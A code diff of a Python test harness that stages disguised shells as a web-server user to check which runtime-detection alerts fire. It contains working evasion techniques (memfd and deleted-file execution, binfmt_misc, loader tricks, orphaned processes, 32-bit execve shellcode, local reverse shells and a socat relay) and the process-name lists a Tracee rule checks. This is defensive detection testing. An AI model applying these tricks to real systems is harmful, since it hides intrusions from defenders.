@@ -1,20 +1,20 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0
-"""disguises.py play FOLDER | judge FOLDER <ALERTS
+"""disguises.py play DIRECTORY | judge DIRECTORY <ALERTS
 
-What an attacker does to have a shell that does not look like one. "play" does each
-trick in a process that is called like a server and is www-data; each leaves a witness
-in FOLDER: what it printed about itself, so that it is certain that it ran. "judge"
-reads the alerts of that and prints, a line each and with tabs between,
+The tricks with which an attacker disguises a shell. "play" runs each trick in a process
+with the name of a server and as www-data. Each trick writes a witness to DIRECTORY: what
+its shell printed about itself, which proves that it ran. "judge" reads the alerts and
+prints lines with tabs:
 
-    ok      promise               the trick ran and raised what it must
+    ok      promise               the trick ran and raised the right rules
     not ok  promise  what is wrong
-    absent  trick    why          this kernel cannot do it
-    table   line                  trick x rule, in Markdown
+    absent  trick    why          this kernel does not have what the trick needs
+    table   line                  the table of tricks and rules, in Markdown
 
-A trick is a function below, with what must and what may be raised for the exec that is
-its end (nothing else may), what must be raised on the way to that, and the witness. It
-runs as root until it becomes a server.
+A trick is a function below. Its decorator says which rules the last exec must raise, which
+it may raise (any other is a fault), which rules execs before the last one must raise, and
+what the witness looks like. The function runs as root until it becomes a server.
 """
 
 import contextlib
@@ -32,8 +32,8 @@ import threading
 import time
 import warnings
 
-OPEN = pathlib.Path("/tmp/disguises")    # everybody's folder
-ROOTS = pathlib.Path("/srv/disguises")   # root's
+OPEN = pathlib.Path("/tmp/disguises")    # a directory that everybody can write to
+ROOTS = pathlib.Path("/srv/disguises")   # a directory of root
 SHELL = pathlib.Path("/bin/sh").resolve()
 BUSYBOX = pathlib.Path("/bin/busybox").resolve()
 WWW_DATA = 33
@@ -46,7 +46,7 @@ MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000
 IPPROTO_MPTCP = 262
 AT_EMPTY_PATH, SYS_CLONE, SYS_EXECVEAT = 0x1000, 56, 322
 
-# What the short names below stand for, in the order of the table.
+# The rules behind the short names in the decorators, in the order of the table.
 RULES = {
     "shell": "webserver_shell_exec",
     "self": "illegitimate_shell",
@@ -59,7 +59,7 @@ RULES = {
     "server": "webserver_exec",
 }
 
-# The two exact look-ups of Tracee's TRC-1016.
+# The names that Tracee's TRC-1016 compares.
 TRC_1016_SERVERS = {"nginx", "httpd", "httpd-foregroun", "http-nio", "lighttpd", "apache", "apache2"}
 TRC_1016_SHELLS = {"ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash"}
 
@@ -67,7 +67,7 @@ TRICKS = []
 
 
 class Absent(Exception):
-    """This kernel does not have it."""
+    """This kernel or machine does not have what a trick needs."""
 
 
 class Trick:
@@ -79,20 +79,24 @@ class Trick:
         self.witness = witness
 
     def command(self):
-        """For a shell: says its pid, its parent's, its name and its executable."""
+        """Returns a shell command that prints its PID, parent, name and executable."""
         return ('read -r comm </proc/$$/comm; '
                 'echo "$$ $PPID $comm $(readlink /proc/$$/exe)"; '
                 f': {self.marker}')
 
 
 def trick(how, must, witness, may="", way=""):
-    """@witness is for "comm exe"; or, beginning with ^, for "pid ppid comm exe"."""
-    def enter(function):
+    """Decorator. @must, @may and @way are short names of rules, with spaces in between.
+
+    @witness is a regular expression for "comm exe", or, if it begins with ^, for "pid ppid
+    comm exe".
+    """
+    def register(function):
         TRICKS.append(Trick(how, function, must, may, way, witness))
-    return enter
+    return register
 
 
-# What tricks are made of.
+# Building blocks of tricks.
 
 def call(function, *args):
     if function(*args) == -1:
@@ -150,8 +154,11 @@ def private_mounts(flags=0):
     call(libc.mount, None, b"/", None, MS_REC | MS_PRIVATE, None)
 
 
-def attacker(family, address, says=b"", protocol=0):
-    """Listens; says something to who connects, and keeps what it hears. Returns where."""
+def start_attacker(family, address, sends=b"", protocol=0):
+    """Starts a process that listens, sends @sends to its client and prints what it receives.
+
+    Returns the address and port.
+    """
     listener = socket.socket(family, socket.SOCK_STREAM, protocol)
     listener.bind((address, 0))
     listener.listen()
@@ -160,10 +167,10 @@ def attacker(family, address, says=b"", protocol=0):
         listener.close()
         return address, port
     end, _peer = listener.accept()
-    end.sendall(says)
+    end.sendall(sends)
     end.shutdown(socket.SHUT_WR)
-    heard = b"".join(iter(lambda: end.recv(4096), b""))
-    os.write(1, heard)
+    received = b"".join(iter(lambda: end.recv(4096), b""))
+    os.write(1, received)
     os._exit(0)
 
 
@@ -206,12 +213,12 @@ def copy_in_memory(command, _marker):
     run(copy(SHELL, pathlib.Path("/dev/shm/x")), "-c", command)
 
 
-@trick("copy of a shell in a folder of its own", "dropped", f"x {OPEN}/private/x")
+@trick("copy of a shell in a directory of its own", "dropped", f"x {OPEN}/private/x")
 def copy_in_private(command, _marker):
     become("nginx")
-    folder = OPEN / "private"
-    folder.mkdir(mode=0o700)
-    run(copy(SHELL, folder / "x"), "-c", command)
+    directory = OPEN / "private"
+    directory.mkdir(mode=0o700)
+    run(copy(SHELL, directory / "x"), "-c", command)
 
 
 @trick("copy of a shell, where the server is root", "dropped", f"x {ROOTS}/x")
@@ -228,7 +235,7 @@ def deleted_copy(command, _marker):
     run(f"/proc/self/fd/{fd}", "-c", command)
 
 
-# Debian 11's busybox renames its task to its argv[0].
+# Debian 11's busybox changes its process name to its argv[0].
 @trick("static shell of its own (busybox by another name)", "dropped", f"(page|sh) {OPEN}/page")
 def static_shell(command, _marker):
     become("nginx")
@@ -303,19 +310,19 @@ def script_of_env(command, marker):
 
 @trick("a binfmt_misc of its own for *.page", "shell self dropped", f"index.page {SHELL}")
 def binfmt_misc(command, marker):
-    folder = pathlib.Path("/proc/sys/fs/binfmt_misc")
+    directory = pathlib.Path("/proc/sys/fs/binfmt_misc")
     subprocess.run(["modprobe", "-q", "binfmt_misc"], check=False)
-    if not (folder / "register").exists() and \
-       libc.mount(b"binfmt_misc", bytes(folder), b"binfmt_misc", 0, None):
+    if not (directory / "register").exists() and \
+       libc.mount(b"binfmt_misc", bytes(directory), b"binfmt_misc", 0, None):
         raise Absent("CONFIG_BINFMT_MISC")
-    (folder / "register").write_text(":disguise:E::page::/bin/sh:", encoding="ascii")
+    (directory / "register").write_text(":disguise:E::page::/bin/sh:", encoding="ascii")
 
     def server():
         become("nginx")
         run(write(OPEN / "index.page", f"{command}\n"), marker)
 
     in_child(server)
-    (folder / "disguise").write_text("-1", encoding="ascii")
+    (directory / "disguise").write_text("-1", encoding="ascii")
 
 
 @trick("ld.so /bin/sh", "loader", r"ld-\S+ \S+/ld-\S+")
@@ -330,7 +337,8 @@ def loader_copy(command, _marker):
     run(copy("/lib64/ld-linux-x86-64.so.2", OPEN / "page.so"), "/bin/sh", "-c", command)
 
 
-# The name that fexecve gives a task is a number or, since late in 6.1, the file's own.
+# fexecve sets the process name to the number of the descriptor, or, in later kernels, to the
+# name of the file.
 @trick("memfd, fexecve", "dropped", r"(\d+|memfd:page) /memfd:page \(deleted\)")
 def memfd_fexecve(command, _marker):
     become("nginx")
@@ -366,10 +374,10 @@ def busybox_sh(command, _marker):
     run("/bin/busybox", "sh", "-c", command)
 
 
-@trick("busybox /any/folder/sh", "shell self", f"busybox {BUSYBOX}")
+@trick("busybox /any/directory/sh", "shell self", f"busybox {BUSYBOX}")
 def busybox_path(command, _marker):
     become("nginx")
-    run("/bin/busybox", "/any/folder/sh", "-c", command)
+    run("/bin/busybox", "/any/directory/sh", "-c", command)
 
 
 @trick("busybox busybox sh", "shell self", f"busybox {BUSYBOX}")
@@ -398,7 +406,7 @@ def renamed_server(command, _marker):
 
 
 def in_thread_of_java(*command):
-    """In a process called java, by its thread http-nio-8080-exec-1."""
+    """The thread http-nio-8080-exec-1 of a process called java starts the command."""
     def work():
         rename("http-nio-8080-exec-1")
         in_child(run, *command)
@@ -414,7 +422,7 @@ def java_thread(command, _marker):
     in_thread_of_java("/bin/sh", "-c", command)
 
 
-@trick("jspawnhelper between that thread and sh", "shell", f"sh {SHELL}", may="self")
+@trick("jspawnhelper between such a thread and sh", "shell", f"sh {SHELL}", may="self")
 def jspawnhelper(command, _marker):
     in_thread_of_java(copy("/usr/bin/env", ROOTS / "jspawnhelper"), "/bin/sh", "-c", command)
 
@@ -491,7 +499,7 @@ def vfork(command, _marker):
 
 
 def leave_and_run(name, *command):
-    """What is run has nothing above it but pid 1."""
+    """Runs the command in a process whose only ancestor is process 1."""
     if os.fork():
         os._exit(0)
     os.setsid()
@@ -503,13 +511,13 @@ def leave_and_run(name, *command):
     run(*command)
 
 
-@trick("double fork, setsid, the server gone", "shell", rf"^\d+ 1 sh {SHELL}")
+@trick("double fork, setsid, the server has exited", "shell", rf"^\d+ 1 sh {SHELL}")
 def orphan(command, _marker):
     become("nginx")
     leave_and_run("kworker/0:1", "/bin/sh", "-c", command)
 
 
-@trick("double fork, setsid, under a name that another rule watches", "shell", rf"^\d+ 1 sh {SHELL}")
+@trick("double fork, setsid, with a name in another rule", "shell", rf"^\d+ 1 sh {SHELL}")
 def orphan_of_two(command, _marker):
     become("nginx")
     rename("postgres")
@@ -517,7 +525,7 @@ def orphan_of_two(command, _marker):
 
 
 def leave_in_thread(prepare, command):
-    """In a thread, once what is to be done of it has been done by another."""
+    """Starts a thread that leaves and runs the command after prepare(thread) has returned."""
     prepared = threading.Event()
 
     def work():
@@ -531,7 +539,7 @@ def leave_in_thread(prepare, command):
     thread.join()
 
 
-@trick("double fork, setsid, by a thread that another has named", "shell", rf"^\d+ 1 sh {SHELL}")
+@trick("double fork, setsid, by a thread that another thread has named", "shell", rf"^\d+ 1 sh {SHELL}")
 def orphan_of_named_thread(command, _marker):
     def name(thread):
         comm = pathlib.Path(f"/proc/self/task/{thread.native_id}/comm")
@@ -541,7 +549,8 @@ def orphan_of_named_thread(command, _marker):
     leave_in_thread(name, command)
 
 
-@trick("double fork, setsid, by a thread older than its process's name", "shell", rf"^\d+ 1 sh {SHELL}")
+@trick("double fork, setsid, by a thread older than the name of its process", "shell",
+       rf"^\d+ 1 sh {SHELL}")
 def orphan_of_older_thread(command, _marker):
     become("python3")
     leave_in_thread(lambda thread: rename("nginx"), command)
@@ -570,8 +579,8 @@ def ten_levels(command, _marker):
 @trick("the server's chroot", "shell self", "sh /bin/busybox")
 def chroot(command, _marker):
     jail = ROOTS / "jail"
-    for folder in "bin", "proc":
-        (jail / folder).mkdir(parents=True)
+    for directory in "bin", "proc":
+        (jail / directory).mkdir(parents=True)
     copy("/bin/busybox", jail / "bin" / "busybox")
     for applet in "sh", "readlink":
         (jail / "bin" / applet).symlink_to("busybox")
@@ -606,7 +615,7 @@ def unshare(command, _marker):
 
 
 def reverse(family, address, command, protocol=0):
-    where = attacker(family, address, protocol=protocol)
+    where = start_attacker(family, address, protocol=protocol)
     become("nginx")
     connect_stdio(family, where, protocol)
     run("/bin/sh", "-c", command)
@@ -624,7 +633,7 @@ def reverse_ipv6(command, _marker):
 
 @trick("reverse shell, IPv4 by an IPv6 socket", "reverse shell self", f"sh {SHELL}")
 def reverse_mapped(command, _marker):
-    _address, port = attacker(socket.AF_INET, "127.0.0.1")
+    _address, port = start_attacker(socket.AF_INET, "127.0.0.1")
     become("nginx")
     connect_stdio(socket.AF_INET6, ("::ffff:127.0.0.1", port))
     run("/bin/sh", "-c", command)
@@ -641,7 +650,7 @@ def reverse_mptcp(command, _marker):
 
 @trick("reverse shell of a copy", "reverse dropped", f"reverse {OPEN}/reverse")
 def reverse_copy(command, _marker):
-    where = attacker(socket.AF_INET, "127.0.0.1")
+    where = start_attacker(socket.AF_INET, "127.0.0.1")
     become("nginx")
     connect_stdio(socket.AF_INET, where)
     run(copy(SHELL, OPEN / "reverse"), "-c", command)
@@ -649,16 +658,16 @@ def reverse_copy(command, _marker):
 
 @trick("a relay to the shell: socat", "shell", rf"disguise-\S* {SHELL}", way="nettool")
 def relay(command, marker):
-    address, port = attacker(socket.AF_INET, "127.0.0.1", f"{command}\n".encode())
+    address, port = start_attacker(socket.AF_INET, "127.0.0.1", f"{command}\n".encode())
     become("nginx")
     link = OPEN / marker
     link.symlink_to("/bin/sh")
-    # By itself it gives the shell half a second after the attacker's last word.
+    # By default socat ends the shell half a second after the attacker's end of data.
     run("socat", "-t", "20", f"TCP:{address}:{port}", f"EXEC:{link}")
 
 
 def elf32():
-    """execve("/bin/sh", argv, envp), in 32-bit machine code, as a whole program."""
+    """Returns a 32-bit program that calls execve("/bin/sh", argv, envp)."""
     base, headers = 0x08048000, 52 + 32
     code = (b"\xb8\x0b\x00\x00\x00"       # mov eax, 11 (execve)
             b"\xbb" + (base + headers + 35).to_bytes(4, "little") +  # mov ebx, path
@@ -695,12 +704,12 @@ def exec_32_bit(command, _marker):
 
 # play
 
-def witness_of(a_trick, folder):
-    return folder / f"witness-{a_trick.name}"
+def witness_of(a_trick, directory):
+    return directory / f"witness-{a_trick.name}"
 
 
 def perform(a_trick, witness):
-    """In a process of its own."""
+    """Runs a trick in the calling process, which it ends; the output is the witness."""
     null = os.open("/dev/null", os.O_RDONLY)
     out = os.open(witness, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
     for fd, source in enumerate((null, out, out)):
@@ -715,7 +724,7 @@ def perform(a_trick, witness):
         os._exit(0)
 
 
-def play(folder):
+def play(directory):
     for path in OPEN, ROOTS:
         shutil.rmtree(path, ignore_errors=True)
         path.mkdir()
@@ -726,13 +735,13 @@ def play(folder):
     os.environ["PATH"] = "/usr/sbin:/usr/bin:/sbin:/bin"
     os.chdir("/")
     signal.signal(signal.SIGPIPE, signal.SIG_DFL)
-    # Python 3.12 warns of threads that fork, in the midst of what a trick says of itself.
+    # Python 3.12 warns when a thread forks: the warning would get into the witness.
     warnings.simplefilter("ignore", DeprecationWarning)
 
     for a_trick in TRICKS:
-        witness = witness_of(a_trick, folder)
+        witness = witness_of(a_trick, directory)
         in_child(perform, a_trick, witness)
-        # What it has left behind may still be at it.
+        # Processes that the trick has left may still be running.
         deadline = time.monotonic() + 20 * PATIENCE
         while b"\n" not in witness.read_bytes() and time.monotonic() < deadline:
             time.sleep(0.02)
@@ -741,12 +750,12 @@ def play(folder):
 # judge
 
 class Case:
-    """What came of a trick."""
+    """A trick with its witness and its alerts."""
 
-    def __init__(self, a_trick, folder, alerts):
+    def __init__(self, a_trick, directory, alerts):
         self.trick = a_trick
-        lines = witness_of(a_trick, folder).read_text().splitlines() or ["nothing"]
-        self.said = "; ".join(lines)
+        lines = witness_of(a_trick, directory).read_text().splitlines() or ["nothing"]
+        self.printed = "; ".join(lines)
         self.last_line = lines[-1]
         self.alert, self.on_the_way = None, set()
         mine = [a for a in alerts if a_trick.marker in json.dumps(a["process"]["argv"])]
@@ -774,9 +783,9 @@ class Case:
     def rules(self):
         return self.short(self.alert)
 
-    def wrong(self):
+    def faults(self):
         if not self.ran():
-            yield f"it did not run, its witness says: {self.said}"
+            yield f"it did not run, its witness is: {self.printed}"
             return
         if not self.alert:
             yield "no alert"
@@ -800,7 +809,7 @@ class Case:
                 self.alert["process"]["comm"] in TRC_1016_SHELLS)
 
     def row(self):
-        """As the table has it: what must be raised is bold."""
+        """Returns the row of the table: rules that must be raised are bold."""
         def cell(rule):
             must = rule in self.trick.must
             if rule in self.rules():
@@ -820,23 +829,24 @@ def promise(a_trick):
 
 
 def verdict(case):
-    wrong = list(case.wrong())
+    faults = list(case.faults())
     if case.absent():
-        return "absent", case.trick.how, case.said
-    if not wrong:
+        return "absent", case.trick.how, case.printed
+    if not faults:
         return "ok", promise(case.trick)
-    return "not ok", promise(case.trick), f"{', '.join(wrong)}; {case.said}; {json.dumps(case.alert)}"
+    why = "; ".join([", ".join(faults), case.printed, json.dumps(case.alert)])
+    return "not ok", promise(case.trick), why
 
 
 def table(cases):
-    header = ["trick", *(f"`{rule}`" for rule in RULES.values()), "on the way", "TRC-1016 says"]
+    header = ["trick", *(f"`{rule}`" for rule in RULES.values()), "on the way", "TRC-1016"]
     for row in header, ["---"] * len(header), *(case.row() for case in cases):
         yield "| " + " | ".join(row) + " |"
 
 
-def judge(folder):
+def judge(directory):
     alerts = [json.loads(line) for line in sys.stdin]
-    cases = [Case(a_trick, folder, alerts) for a_trick in TRICKS]
+    cases = [Case(a_trick, directory, alerts) for a_trick in TRICKS]
     for case in cases:
         print(*verdict(case), sep="\t")
     for line in table(case for case in cases if not case.absent()):
